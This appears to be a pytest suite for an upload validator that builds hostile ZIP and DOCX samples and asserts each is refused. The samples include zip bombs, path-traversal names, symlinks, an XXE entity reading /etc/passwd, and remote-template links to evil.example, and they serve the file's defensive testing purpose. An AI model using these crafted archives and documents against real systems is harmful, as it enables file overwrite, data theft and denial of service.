"""An attacker uploads an archive: it unpacks to what no disk holds, writes outside of its folder,
or holds links, devices, further archives and names that two programs read differently (ASVS 5.2.3,
5.2.5, 5.3.3). Every one is refused before anything is written, and without unpacking it in memory.
"""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
import zlib

import pytest

from zenith.content import (
    ArchiveLimits,
    UploadRefusedError,
    UploadSettings,
    check_file,
    read_archive,
)

LOCAL = b"PK\x03\x04"
LIMITS = ArchiveLimits(max_entries=20, max_unpacked=1_000_000, max_ratio=50)


def packed(*files, method=zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as made:
        for name, data in files:
            made.writestr(name, data)
    return held.getvalue()


def entry(name: str, *, mode: int = 0, system: int = 3) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    info.create_system = system
    return info


def refused(data: bytes) -> str:
    with pytest.raises(UploadRefusedError) as caught:
        read_archive(data, LIMITS)
    assert caught.value.status == 422
    return caught.value.reason.removeprefix("archive: ")


def patched(data: bytes, at: int, form: str, value: int) -> bytes:
    changed = bytearray(data)
    struct.pack_into(form, changed, at, value)
    return bytes(changed)


def directory(data: bytes) -> int:
    return data.index(b"PK\x01\x02")


def test_bombs_by_ratio_size_and_number():
    assert refused(packed(("a", b"0" * 10_000_000))) == "ratio"
    stored = [(str(n), b"x" * 60_000) for n in range(18)]
    assert refused(packed(*stored, method=zipfile.ZIP_STORED)) == "declared size"
    assert refused(packed(*((str(n), b"") for n in range(21)))) == "entries"


def test_a_bomb_that_says_it_is_small():
    data = packed(("a", b"0" * 3_000_000))
    lying = patched(data, directory(data) + 24, "<I", 100)
    lying = patched(lying, 22, "<I", 100)
    assert refused(lying) in {"BadZipFile", "size is another than declared", "true size"}


def test_a_small_file_that_says_it_is_smaller_or_larger():
    data = packed(("a", b"x" * 100), method=zipfile.ZIP_STORED)
    larger = patched(data, directory(data) + 24, "<I", 200)
    assert refused(larger) == "file and directory differ"
    both = patched(larger, 22, "<I", 200)
    assert refused(both) in {"BadZipFile", "size is another than declared", "EOFError"}


def test_a_stream_that_goes_on_after_the_last_byte_declared():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(b"0" * 2_000_000) + packer.flush()
    data = packed(("a", b"y" * 1000))
    start = data.index(b"a", 30) + 1
    end = directory(data)
    changed = data[:start] + body + data[end:]
    place = changed.index(b"PK\x01\x02")
    changed = patched(changed, place + 20, "<I", len(body))
    assert refused(patched(changed, changed.rindex(b"PK\x05\x06") + 16, "<I", place)) == (
        "file and directory differ"
    )
    changed = patched(changed, 18, "<I", len(body))
    changed = patched(changed, changed.rindex(b"PK\x05\x06") + 16, "<I", place)
    assert refused(changed) == "size is another than declared"
    # Nor does the check sum of the beginning help.
    for at in (14, place + 16):
        changed = patched(changed, at, "<I", zlib.crc32(b"0" * 1000))
    assert refused(changed) == "size is another than declared"


def test_files_that_share_their_bytes():
    data = packed(("a", b"x" * 500), ("b", b"x" * 500))
    second = data.rindex(b"PK\x01\x02")
    shared = patched(data, second + 42, "<I", 0)
    assert refused(shared) == "files overlap"


@pytest.mark.parametrize(
    "name",
    [
        "../x",
        "a/../../x",
        "/etc/passwd",
        "a//b",
        "./a",
        "a/.",
        "C:/x",
        "C:x",
        "..\\x",
        "a\\..\\x",
        "a\x01b",
        "a\u202eb",
        "a ",
        "a.",
        "a./b",
        "con:",
        "a*",
        "x" * 300,
        "a|b",
        "\ufeffa",
        "\uff0e\uff0e/x",
        "a/\u2025\uff0fx",
    ],
)
def test_paths_that_lead_elsewhere(name):
    assert refused(packed((entry(name), b"x"))) == "path"


def test_a_name_that_ends_early_for_some():
    data = packed(("safe.txtX.exe", b"x")).replace(b"safe.txtX.exe", b"safe.txt\0.exe")
    assert refused(data) == "path"


@pytest.mark.parametrize("mode", [0o120777, 0o020666, 0o010666, 0o140777, 0o060666])
def test_links_and_devices(mode):
    assert refused(packed((entry("a", mode=mode), b"/etc/passwd"))) == "link or device"
    assert refused(packed((entry("a", mode=mode, system=0), b"x"))) == "link or device"


def test_archives_within_by_name_and_by_content():
    inner = packed(("a", b"b"))
    assert refused(packed(("a.zip", b""))) == "nested by name"
    assert refused(packed(("a.TAR", b"x"))) == "nested by name"
    assert refused(packed(("a.txt", inner))) == "nested by content"
    assert refused(packed(("a.txt", b"\x1f\x8b\x08x"))) == "nested by content"


def test_archives_within_behind_other_content():
    """Readers begin at the end, where what stands before does not matter."""
    inner = packed(("a", b"b" * 1000))
    large = packed(("a" * 200, b""), *((f"{each:200}", b"") for each in range(700)))
    for data in (b"x" + inner, b"MZ" + inner + b"tail", b"x" * 200_000 + large):
        assert zipfile.is_zipfile(io.BytesIO(data))
        stored = packed(("a.bin", data), method=zipfile.ZIP_STORED)
        assert refused(stored) == "nested behind other content"
    end = inner[inner.rfind(b"PK\x05\x06") :]
    assert refused(packed(("a", b"x" + b"PK\x05\x06" * 65))) == "nested behind other content"
    for harmless in (b"x" + end, b"x" * 90 + end, b"see PK\x05\x06", b"x" + packed()):
        assert read_archive(packed(("a.bin", harmless)), LIMITS) == ("a.bin",)


def test_one_name_twice():
    with pytest.warns(UserWarning, match="Duplicate"):
        data = packed(("a", b"x"), ("a", b"y"))
    assert refused(data) == "one name twice"
    assert refused(packed(("a", b"x"), ("A", b"y"))) == "one name twice"
    assert refused(packed(("a/", b""), ("a", b"y"))) == "one name twice"


def test_a_directory_that_differs_from_the_files():
    data = packed(("aaaa", b"x"))
    assert refused(data.replace(b"aaaa", b"bbbb", 1)) == "BadZipFile"


def test_a_file_that_says_something_else_of_itself():
    data = packed(("a", b"x" * 100))
    assert refused(patched(data, 8, "<H", 0)) == "file and directory differ"
    assert refused(patched(data, 6, "<H", 1)) == "file and directory differ"
    # Sizes after the file, as programs write that do not know them before.
    held = io.BytesIO()

    class Stream(io.RawIOBase):
        def writable(self):
            return True

        def write(self, piece):
            return held.write(piece)

    with zipfile.ZipFile(Stream(), "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a", b"x" * 100)
        made.writestr("b", b"y" * 100)
    assert read_archive(held.getvalue(), LIMITS) == ("a", "b")


def test_data_between_the_files():
    data = packed(("a", b"x"), ("b", b"y"))
    second = data.index(b"PK\x03\x04", 4)
    place = directory(data)
    moved = data[:second] + b"<script>" + data[second:]
    moved = patched(moved, moved.rindex(b"PK\x01\x02") + 42, "<I", second + 8)
    moved = patched(moved, moved.rindex(b"PK\x05\x06") + 16, "<I", place + 8)
    assert refused(moved) == "data between files"
    last = data[:place] + b"<script>" + data[place:]
    last = patched(last, last.rindex(b"PK\x05\x06") + 16, "<I", place + 8)
    assert refused(last) == "data between files"


def test_another_name_for_some():
    for path, is_taken in ((b"../evil", False), (b"a", True)):
        info = zipfile.ZipInfo("a")
        info.extra = struct.pack("<HHBI", 0x7075, 5 + len(path), 1, zlib.crc32(b"a")) + path
        data = packed((info, b"x"))
        if is_taken:
            assert read_archive(data, LIMITS) == ("a",)
        else:
            assert refused(data) == "path"


def written(body: bytes, size: int, *, flags: int = 0, sizes=None, extra: bytes = b"") -> bytes:
    """One file `a` of fifty x; `sizes` and `extra` are what it says itself."""
    check = zlib.crc32(b"x" * 50)
    own = (len(body), size) if sizes is None else sizes
    file = struct.pack("<4s5H3I2H", LOCAL, 20, flags, 8, 0, 33, check, *own, 1, len(extra))
    file += b"a" + extra + body
    facts = (20, 20, flags, 8, 0, 33, check, len(body), size, 1, 0, 0, 0, 0, 0, 0)
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *facts) + b"a"
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(file), 0)
    return file + entry + end


def test_what_only_readers_from_the_front_believe():
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(b"x" * 50) + packer.flush()
    for sizes in ((0, 0), (2**32 - 1, 2**32 - 1), (len(body), 50)):
        assert read_archive(written(body, 50, flags=8, sizes=sizes), LIMITS) == ("a",)
    assert refused(written(body, 50, flags=8, sizes=(1, 50))) == "file and directory differ"
    path = b"../evil"
    other = struct.pack("<HHBI", 0x7075, 5 + len(path), 1, zlib.crc32(b"a")) + path
    assert refused(written(body, 50, extra=other)) == "path"
    assert refused(written(body + b"<script>", 50)) == "data behind a file"
    endless = struct.pack("<BHH", 0, 50, 0xFFFF ^ 50) + b"x" * 50
    assert refused(written(endless, 50)) == "a file has no end"


def test_a_second_end():
    info = zipfile.ZipInfo("a")
    info.comment = b"PK\x06\x07" + b"\0" * 16
    assert refused(packed((info, b"x"))) == "two ends"


def test_a_name_that_is_no_text():
    data = packed(("\u00fc", b"x")).replace("\u00fc".encode(), b"\xff\xff")
    assert refused(data) == "UnicodeDecodeError"


def test_encrypted_files_and_other_methods():
    data = packed(("a", b"x"))
    assert refused(patched(data, directory(data) + 8, "<H", 1)) == "encrypted"
    for method in (zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2):
        assert refused(packed(("a", b"x" * 100), method=method)) == "method"


def test_anything_before_between_or_behind():
    data = packed(("a", b"x"))
    end = data.rindex(b"PK\x05\x06")
    assert refused(b"#!/bin/sh\n" + data) == "no frame"
    assert refused(b"PK\x03\x04" + data) == "data around it"
    assert refused(data + b"x") == "data around it"
    assert refused(data[:end] + b"x" + data[end:]) == "data around it"
    assert refused(data[:-1]) == "no frame"
    assert refused(b"PK\x03\x04") == "no frame"
    assert refused(patched(data, end + 4, "<H", 1)) == "several parts"
    assert refused(patched(data, end + 10, "<H", 2)) == "several parts"


def test_a_directory_far_larger_than_its_entries():
    data = packed(*((str(n), b"") for n in range(20)))
    end = data.rindex(b"PK\x05\x06")
    small = ArchiveLimits(max_entries=1, max_name=1)
    fewer = patched(patched(data, end + 8, "<H", 1), end + 10, "<H", 1)
    with pytest.raises(UploadRefusedError) as caught:
        read_archive(fewer, small)
    assert caught.value.reason in {"archive: directory larger than its entries", "archive: entries"}


def test_a_bomb_costs_next_to_nothing():
    data = packed(("a", b"0" * 50_000_000))
    began = time.process_time()
    assert refused(data) == "ratio"
    assert time.process_time() - began < 0.1


def test_many_files_are_not_copied_for_each_of_them():
    """100 MiB in a thousand files took a minute, in which nothing else ran."""

    class Counted(bytes):
        copied = 0

        def __getitem__(self, place):
            found = super().__getitem__(place)
            Counted.copied += len(found) if isinstance(place, slice) else 0
            return found

    files = [(f"{each}", b"x" * 1000) for each in range(500)]
    data = Counted(packed(*files, method=zipfile.ZIP_STORED))
    assert len(read_archive(data, ArchiveLimits())) == 500
    assert Counted.copied < len(data)


def test_a_document_with_macros_is_none():
    data = packed(
        ("[Content_Types].xml", b""), ("word/document.xml", b""), ("word/vbaProject.bin", b"")
    )
    with pytest.raises(UploadRefusedError, match="macros"):
        check_file(data, "a.docx", UploadSettings(types=("docx",)))


TYPES = "[Content_Types].xml"
DTD = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SETTINGS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind="attachedTemplate", target="https://evil.example/t.dotm", mode="External"):
    given = f'Id="rId1" TargetMode="{mode}" Type="{OFFICE}/{kind}" Target="{target}"'
    return f"<?xml version='1.0'?><Relationships><Relationship {given}/></Relationships>".encode()


def moved(size, text):
    return b"<a>" + b" " * size + text.removeprefix(b"<?xml version='1.0'?>")


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word/document.xml": DTD.encode()}, "DTD"),
        ({"docProps/other.dat": DTD.encode()}, "DTD"),
        ({"word/document.xml": b"\xef\xbb\xbf" + DTD.encode()}, "DTD"),
        ({"word/document.xml": DTD.encode("utf-16")}, "DTD"),
        ({"word/document.xml": DTD.encode("utf-16-be")}, "DTD"),
        ({"word/document.xml": DTD.encode("utf-32")}, "DTD"),
        ({"word/document.xml": b"<!--" + b"x" * 65_527 + b"--><!DOCTYPE x><x/>"}, "DTD"),
        ({"word/document.xml": DTD.encode("cp037")}, "encoding"),
        ({"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-'}, "encoding"),
        ({TYPES: b'<Override ContentType="application/vnd.ms-office.vbaProject"/>'}, "macros"),
        ({TYPES: b'<Override ContentType="...macro&#69;nabled.main+xml"/>'}, "macros"),
        ({TYPES: "<x ContentType='...macroEnabledTemplate'/>".encode("utf-16")}, "macros"),
        ({SETTINGS: related()}, "fetched from elsewhere"),
        ({"word/_RELS/x.xml.RELS": related()}, "fetched from elsewhere"),
        ({SETTINGS: related("oleObject", r"\\evil\share\x")}, "fetched from elsewhere"),
        ({SETTINGS: related("frame", "//evil.example/x")}, "fetched from elsewhere"),
        ({SETTINGS: related(target=r"file:///\\evil\x.dotm")}, "fetched from elsewhere"),
        ({SETTINGS: related(target=r"C:\\evil\x.dotm")}, "fetched from elsewhere"),
        ({SETTINGS: related(target="mhtml:http://evil.example!x")}, "fetched from elsewhere"),
        ({SETTINGS: related("attached&#x54;emplate")}, "fetched from elsewhere"),
        (
            {
                SETTINGS: related()
                .replace(b"<Relationship ", b"<r:Relationship\n")
                .replace(b'"', b"'")
            },
            "fetched from elsewhere",
        ),
        ({SETTINGS: moved(65_400, related())}, "fetched from elsewhere"),
        ({SETTINGS: moved(65_450, related())}, "fetched from elsewhere"),
        ({SETTINGS: related().decode().encode("utf-16")}, "encoding"),
        ({SETTINGS: DTD.encode()}, "DTD"),
        ({SETTINGS: b"<Relationship a='" + os.urandom(90_000).hex().encode()}, "relation too long"),
    ],
)
def test_a_document_that_fetches_or_runs_is_none(parts, why):
    held = {TYPES: b"<Types/>", "word/document.xml": b"<document/>", **parts}
    settings = UploadSettings(types=("docx", "zip"))
    data = packed(*held.items())
    with pytest.raises(UploadRefusedError) as caught:
        check_file(data, "a.docx", settings)
    assert caught.value.reason == f"upload: {why}"
    assert check_file(data, "a.zip", settings).entries == tuple(held)


def test_an_honest_document_is_one():
    text = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a>&lt;!DOCTYPE&#233;</a>'
    parts = {
        TYPES: b'<?xml version="1.0"?><Types><Default ContentType="image/png"/></Types>',
        "word/document.xml": text,
        "word/media/a.png": b"\x89PNG <!DOCTYPE macroEnabled",
        "word/other.xml": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
        "word/empty.xml": b"",
        SETTINGS: related(target=r"file:///C:\Users\ada\Templates\Letter.dotx"),
        "word/_rels/a.rels": related(target="Letter.dotx"),
        "word/_rels/b.rels": related("hyperlink") + related("image"),
        "word/_rels/c.rels": related(mode="Internal", target="embeddings/oleObject1.bin"),
        "word/_rels/d.rels": moved(65_450, related(target=r"C:\t\Letter.dotx")),
        "word/large.xml": b"<a>" + b"".join(b"<!-- macroEnabled %d -->" % n for n in range(5_000)),
    }
    found = check_file(packed(*parts.items()), "a.docx", UploadSettings(types=("docx",)))
    assert found.entries == tuple(parts)


def test_names_that_some_disks_take_for_one_are_refused():
    for names in (("\u00e9", "e\u0301"), ("\ufb01", "fi"), ("\u212b", "\u00e5")):
        assert refused(packed(*((name, b"") for name in names))) == "one name twice"


def test_relations_without_an_end_cost_next_to_nothing():
    """Attack: beginnings of relations whose values have no end, each of them read to the end."""
    held = {TYPES: b"<Types/>", "word/document.xml": b"<d/>"}
    data = packed(*held.items(), (SETTINGS, b"<Relationship a='" * 60_000))
    began = time.process_time()
    check_file(
        data, "a.docx", UploadSettings(types=("docx",), archives=ArchiveLimits(max_ratio=9999))
    )
    assert time.process_time() - began < 0.5
